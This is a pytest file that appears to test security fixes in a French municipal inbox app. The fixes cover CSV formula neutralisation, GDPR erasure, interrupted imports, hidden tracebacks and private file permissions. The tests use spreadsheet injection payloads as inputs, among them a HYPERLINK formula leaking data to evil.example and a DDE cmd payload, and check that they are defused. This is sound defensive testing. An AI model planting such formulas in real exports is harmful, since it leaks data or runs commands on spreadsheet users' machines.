"""Issue #15, findings 7, 9, 10 and 13: what Parvis writes about residents is safe to open, erasable, complete or
visibly incomplete, private on disk, and never leaks a traceback to the browser.

Each test failed on the code before the fix (checked by running this file against the parent commit)."""

from __future__ import annotations

import ast
import csv
import io
import json
import logging
import os
import re
import sqlite3
import stat
import tomllib
from datetime import timedelta
from pathlib import Path

import pytest
from markdown_it import MarkdownIt
from streamlit import config as st_config
from streamlit.testing.v1 import AppTest

from console.cli import main
from core import audit, repo
from core.db import open_db
from core.repo.archive import ArchiveFilter
from services.archive import exports, rgpd, transfer
from services.archive import published as archive
from services.connections import importer
from services.inbox import triage
from services.moderation import actions
from services.reports.dashboard import to_csv
from tests.conftest import make_mention

ROOT = Path(__file__).resolve().parents[2]
ENTRYPOINT = str(ROOT / "streamlit_app.py")
FORMULAS = ['=HYPERLINK("http://evil.example/?leak="&A1,"Cliquez")', "=cmd|' /C calc'!A0", "+1+1", "-2+3",
            "@SUM(1,1)", "\t=1", "\r=1"]


# ---- 7. CSV formula injection --------------------------------------------------------------------------

def _cells(data: bytes) -> list[list[str]]:
    return list(csv.reader(io.StringIO(data.decode("utf-8-sig"))))


def _answered(db, agents, now, text: str):
    """A resident's mention (``text``) answered through Parvis and archived; returns (mention, message)."""
    import dataclasses

    from core.models import Published

    mention = make_mention(text, author="camille", conversation_id="conv-1")
    repo.upsert_mentions(db, [mention], now=now)
    draft = repo.create_draft(db, mention_uid=mention.uid, author_id=agents["julie"].id, body="Merci.",
                              signed_text="Merci. — Julie", platform=mention.platform, charter_version=None,
                              charter_result=[], now=now)
    repo.save_draft(db, dataclasses.replace(draft, approver_id=agents["sophie"].id, sent_at=now))
    message = archive.archive_draft(db, repo.get_draft(db, draft.id), Published(platform_id="r-1"), now=now,
                                    account="@valmont", payload="{}")
    return mention, message


@pytest.mark.parametrize("formula", FORMULAS)
def test_formula_cells_are_neutralised_in_archive_and_transfer_csv(db, agents, now, tmp_path, formula):
    _answered(db, agents, now, formula)
    until = now + timedelta(days=1)
    exports.export_archive(db, ArchiveFilter(until=until), tmp_path / "a", formats=("csv", "json"),
                           actor="system:test", now=now)
    transfer.transfer_package(db, tmp_path / "t", since=None, until=until, parties=transfer.TransferParties(),
                              actor="system:test", now=now)
    header, *rows = _cells((tmp_path / "a" / "archive.csv").read_bytes())
    assert rows[0][header.index("in_reply_to_text")] == "'" + formula
    header, *rows = _cells((tmp_path / "t" / "metadata" / "received.csv").read_bytes())
    assert rows[0][header.index("text")] == "'" + formula
    # JSON keeps the exact text.
    data = json.loads((tmp_path / "a" / "archive.json").read_text(encoding="utf-8"))
    assert data["messages"][0]["in_reply_to_snapshot"]["text"] == formula


def test_dashboard_csv_neutralises_text_and_keeps_computed_numbers():
    text = to_csv([{"sujet": "=HYPERLINK(\"http://evil.example\")", "messages": -3, "part": -0.5, "note": "-3"}])
    (_, row) = list(csv.reader(io.StringIO(text)))
    assert row == ["'=HYPERLINK(\"http://evil.example\")", "-3", "-0.5", "'-3"]


def test_every_csv_parvis_writes_goes_through_the_safe_writer():
    """A new CSV writer elsewhere would bypass the neutralisation: only core/csv_safe.py may build one."""
    offenders = []
    for folder in ("core", "services", "console", "connectors", "editorial", "moderation"):
        for path in (ROOT / folder).rglob("*.py"):
            if path == ROOT / "core" / "csv_safe.py":
                continue
            for node in ast.walk(ast.parse(path.read_text(encoding="utf-8"))):
                if (isinstance(node, ast.Call) and isinstance(node.func, ast.Attribute)
                        and node.func.attr in ("writer", "DictWriter") and isinstance(node.func.value, ast.Name)
                        and node.func.value.id == "csv"):
                    offenders.append(f"{path.relative_to(ROOT)}:{node.lineno}")
    assert offenders == []


# ---- 9. RGPD erasure that erases --------------------------------------------------------------------------

NOTE = "Mme Zéphyrine Quatrebarbe, 06 98 76 54 32, a déjà porté plainte"
COMMENT = "Voir avec le juriste : Mme Quatrebarbe menace de saisir le tribunal"


def _file_bytes(path: Path) -> bytes:
    return b"".join(p.read_bytes() for p in (path, Path(f"{path}-wal")) if p.exists())


def test_erased_note_leaves_no_trace_in_the_file_and_the_chain_still_verifies(db_path, db, agents, now):
    mention = make_mention("Les poubelles ne sont pas ramassées", author="zephyrine")
    repo.upsert_mentions(db, [mention], now=now)
    triage.add_note(db, mention.uid, NOTE, actor=agents["julie"], now=now)
    actions.escalate(db, mention.uid, "legal", COMMENT, actor=agents["julie"], now=now)
    shown = {e["event"]: e["properties"] for e in audit.events_for(db, mention.uid)}
    assert shown["note-added"]["text"] == NOTE and shown["escalated"]["note"] == COMMENT  # shown while it exists
    db.execute("PRAGMA wal_checkpoint(TRUNCATE)")
    assert NOTE.encode() in _file_bytes(db_path)

    result = rgpd.erasure_request(db, "@zephyrine", actor=agents["marc"], now=now)

    assert result.erased["notes"] == 2 and result.erased["audit_comments"] == 1
    db.execute("PRAGMA wal_checkpoint(TRUNCATE)")
    assert NOTE.encode() not in _file_bytes(db_path)
    assert b"Quatrebarbe" not in b"".join(  # the audit log and its texts: nothing left
        (r[0] or "").encode() for r in db.execute("SELECT properties FROM audit_log UNION ALL "
                                                  "SELECT text FROM audit_texts"))
    shown = {e["event"]: e["properties"] for e in audit.events_for(db, mention.uid)}
    assert shown["note-added"]["text"] == audit.ERASED and shown["escalated"]["note"] == audit.ERASED
    assert audit.verify_chain(db).ok and audit.verify_texts(db) == []
    assert main(["audit", "verify", "--db", str(db_path)]) == 0


def test_a_notes_text_goes_with_the_note_under_retention_too(db_path, db, agents, now):
    old = make_mention("Ancien message", author="ancien", created_at=now - timedelta(days=800))
    repo.upsert_mentions(db, [old], now=now)
    triage.add_note(db, old.uid, NOTE, actor=agents["julie"], now=now - timedelta(days=800))
    from services.archive import retention

    retention.purge(db, retention.RetentionPolicy(), now=now)
    db.execute("PRAGMA wal_checkpoint(TRUNCATE)")
    assert NOTE.encode() not in _file_bytes(db_path)
    assert audit.verify_chain(db).ok


def test_audit_exports_show_the_text_then_erased(db, agents, now, tmp_path):
    mention = make_mention("Bonjour", author="zephyrine")
    repo.upsert_mentions(db, [mention], now=now)
    triage.add_note(db, mention.uid, NOTE, actor=agents["julie"], now=now)
    exports.export_audit(db, exports.AuditSelection(), tmp_path / "before", formats=("csv", "json"),
                         actor="system:test", now=now)
    rgpd.erasure_request(db, "@zephyrine", actor=agents["marc"], now=now)
    exports.export_audit(db, exports.AuditSelection(), tmp_path / "after", formats=("csv", "json"),
                         actor="system:test", now=now)
    before = json.loads((tmp_path / "before" / "audit-events.json").read_text(encoding="utf-8"))
    after = json.loads((tmp_path / "after" / "audit-events.json").read_text(encoding="utf-8"))
    note_before = next(e for e in before["events"] if e["event"] == "note-added")
    note_after = next(e for e in after["events"] if e["event"] == "note-added")
    assert note_before["texts"] == {"text": NOTE} and note_after["texts"] == {"text": audit.ERASED}
    assert note_before["hash"] == note_after["hash"] == audit.row_hash(note_after)  # still re-checkable
    assert NOTE not in (tmp_path / "after" / "audit-events.csv").read_text(encoding="utf-8-sig")


# ---- 10. Half-done writes ----------------------------------------------------------------------------------

def _jsonl(path: Path, n: int, *, prefix: str = "p") -> Path:
    path.write_text("".join(json.dumps({"platform": "facebook", "platform_id": f"{prefix}{i}", "text": f"Message {i}",
                                        "author_id": "a1", "created_at": "2026-10-01T08:00:00+00:00"}) + "\n"
                            for i in range(n)), encoding="utf-8")
    return path


def test_an_import_killed_after_its_first_batch_shows_as_started_not_finished(db_path, db, now, tmp_path,
                                                                              monkeypatch, capsys):
    calls = []
    real = importer.store_mentions

    def dies_on_the_second_batch(*args, **kwargs):
        calls.append(1)
        if len(calls) == 2:
            raise KeyboardInterrupt
        return real(*args, **kwargs)

    monkeypatch.setattr(importer, "store_mentions", dies_on_the_second_batch)
    big = _jsonl(tmp_path / "history.jsonl", importer.BATCH + 10)
    with pytest.raises(KeyboardInterrupt):
        importer.import_file(db, big, now=now)
    assert repo.mention_count(db) == importer.BATCH  # the first batch is kept...
    assert audit.event_names(db) == ["import-started"]  # ...and recorded as started, never finished
    (stopped,) = importer.interrupted_imports(db)
    assert stopped.file == str(big)

    calls.clear()  # the CLI says so: when it is interrupted, and before the next import
    assert main(["import", "--db", str(db_path), str(big)]) == 130
    assert "import-started" in capsys.readouterr().err
    monkeypatch.setattr(importer, "store_mentions", real)
    assert main(["import", "--db", str(db_path), str(_jsonl(tmp_path / "small.jsonl", 3, prefix="s"))]) == 0
    err = capsys.readouterr().err
    assert f"#{stopped.event_id}" in err and "never finished" in err

    report = importer.import_file(db, big, now=now)  # run again: it completes, and names its start
    finished = audit.select_events(db, events=("mentions-imported",))[-1]
    assert json.loads(finished["properties"])["started_id"] == report.started_id
    assert repo.mention_count(db) == importer.BATCH + 10 + 3


def test_a_200_kib_csv_field_is_a_clear_error_on_its_line_and_the_rest_is_imported(db, now, tmp_path):
    f = tmp_path / "export.csv"
    huge = "x" * 200 * 1024
    f.write_text("platform,platform_id,text,author_id,created_at,author_name\n"
                 "x,1,Bonjour,u1,2026-10-02T09:00:00Z,\n"
                 f"x,2,{huge},u2,2026-10-02T09:00:00Z,\n"
                 f"x,3,Bonsoir,u3,2026-10-02T09:00:00Z,{huge}\n"
                 "x,4,Merci,u4,2026-10-02T09:00:00Z,\n", encoding="utf-8")
    report = importer.import_file(db, f, now=now)
    assert report.inserted == 2 and [n for n, _ in report.errors] == [3, 4]
    assert "text longer than" in report.errors[0][1] and "author_name" in report.errors[1][1]
    assert sorted(i.uid for i in repo.list_inbox(db, repo.InboxQuery(open_only=False))) == ["x:1", "x:4"]


def test_a_csv_with_a_byte_order_mark_imports(db, now, tmp_path):
    f = tmp_path / "excel.csv"
    f.write_text("platform,platform_id,text,author_id,created_at\n"
                 "x,1,Bonjour la mairie,u1,2026-10-02T09:00:00Z\n"
                 "x,2,Merci,u2,2026-10-02T09:05:00Z\n", encoding="utf-8-sig")
    assert f.read_bytes().startswith(b"\xef\xbb\xbf")
    report = importer.import_file(db, f, now=now)
    assert report.inserted == 2 and report.errors == []


def test_streamlit_never_shows_error_details():
    value = tomllib.loads((ROOT / ".streamlit" / "config.toml").read_text(encoding="utf-8"))["client"][
        "showErrorDetails"]
    assert value == st_config.ShowErrorDetailsConfigOptions.NONE


@pytest.fixture
def inbox_app(db_path, db, agents, now, monkeypatch):
    monkeypatch.setenv("PARVIS_DB", str(db_path))
    monkeypatch.setenv("PARVIS_AUTH", "open")  # these agents have no password: open by choice (issue #15 finding 3)
    repo.upsert_mentions(db, [make_mention("Bonjour", pid="m1")], now=now)
    return AppTest.from_file(ENTRYPOINT, default_timeout=30)


def _only_a_reference(app, caplog, secret: str) -> None:
    assert not app.exception
    (shown,) = [MarkdownIt("commonmark").render(e.value) for e in app.error]  # as the reader sees it
    ref = re.search(r"ERR-[0-9A-F]{6}", shown)
    assert ref and "Erreur inattendue" in shown and secret not in shown and "Traceback" not in shown
    logged = [r for r in caplog.records if ref.group(0) in r.getMessage()]
    assert logged and logged[0].exc_info and secret in str(logged[0].exc_info[1])


def test_a_raw_sqlite_error_in_a_page_shows_a_reference_not_a_traceback(inbox_app, monkeypatch, caplog):
    def broken(*args, **kwargs):
        raise sqlite3.OperationalError("no such column: secret_column in SELECT password_hash FROM agents")

    monkeypatch.setattr(triage, "list_items", broken)
    with caplog.at_level(logging.ERROR, logger="parvis.ui"):
        inbox_app.run()
    _only_a_reference(inbox_app, caplog, "password_hash")


def test_a_bug_while_drawing_a_page_shows_a_reference_not_a_traceback(inbox_app, monkeypatch, caplog):
    from console.ui import components

    def broken(*args, **kwargs):
        raise ZeroDivisionError("secret detail of /var/lib/parvis/parvis.db")

    monkeypatch.setattr(components, "risk_summary", broken)
    with caplog.at_level(logging.ERROR, logger="parvis.ui"):
        inbox_app.run()
    _only_a_reference(inbox_app, caplog, "/var/lib/parvis")


def _callback_script() -> None:
    import sqlite3

    import streamlit as st

    from console.ui import page

    def broken(db, now):
        raise sqlite3.IntegrityError("UNIQUE constraint failed: agents.email secret@valmont.fr")

    page.show_flash()
    st.button("Agir", key="act", on_click=page.run, args=(broken, "jamais"))


def test_an_unexpected_error_in_an_action_shows_a_reference(db_path, db, monkeypatch, caplog):
    monkeypatch.setenv("PARVIS_DB", str(db_path))
    app = AppTest.from_function(_callback_script, default_timeout=30)
    app.run()
    with caplog.at_level(logging.ERROR, logger="parvis.ui"):
        app.button(key="act").click().run()
    _only_a_reference(app, caplog, "secret@valmont.fr")


# ---- 13. Files private to Parvis -----------------------------------------------------------------------

def _mode(path: Path) -> int:
    return stat.S_IMODE(path.stat().st_mode)


@pytest.fixture
def open_umask():
    previous = os.umask(0o022)  # the common default: files 0644, folders 0755 unless Parvis says otherwise
    yield
    os.umask(previous)


def test_database_and_data_directory_are_private(open_umask, tmp_path):
    data = tmp_path / "parvis-data"
    path = data / "parvis.db"
    assert main(["init", "--db", str(path)]) == 0
    assert _mode(data) == 0o700 and _mode(path) == 0o600
    db = open_db(path)
    try:
        repo.upsert_mentions(db, [make_mention("Bonjour")], now=make_mention().created_at)
        for suffix in ("-wal", "-shm"):
            assert _mode(Path(f"{path}{suffix}")) == 0o600, suffix
    finally:
        db.close()


def test_exports_transfer_packages_and_rgpd_answers_are_private(open_umask, db, agents, now, tmp_path):
    _answered(db, agents, now, "Bonjour")
    until = now + timedelta(days=1)
    exports.export_archive(db, ArchiveFilter(until=until), tmp_path / "archive", actor="system:test", now=now)
    exports.export_audit(db, exports.AuditSelection(), tmp_path / "audit", actor="system:test", now=now)
    transfer.transfer_package(db, tmp_path / "transfer", since=None, until=until,
                              parties=transfer.TransferParties(), actor="system:test", now=now)
    result = rgpd.access_request(db, "@camille", out_dir=tmp_path / "rgpd", actor=agents["marc"], now=now)
    assert result.path is not None
    for folder in ("archive", "audit", "transfer", "rgpd"):
        assert _mode(tmp_path / folder) == 0o700, folder
        files = [p for p in (tmp_path / folder).rglob("*") if p.is_file()]
        assert files and {p.name: _mode(p) for p in files} == {p.name: 0o600 for p in files}
        assert all(_mode(p) == 0o700 for p in (tmp_path / folder).rglob("*") if p.is_dir())


def test_the_activity_report_file_is_private(open_umask, db_path, db, tmp_path):
    out = tmp_path / "rapport.csv"
    assert main(["report", "--db", str(db_path), "--format", "csv", "--out", str(out)]) == 0
    assert _mode(out) == 0o600
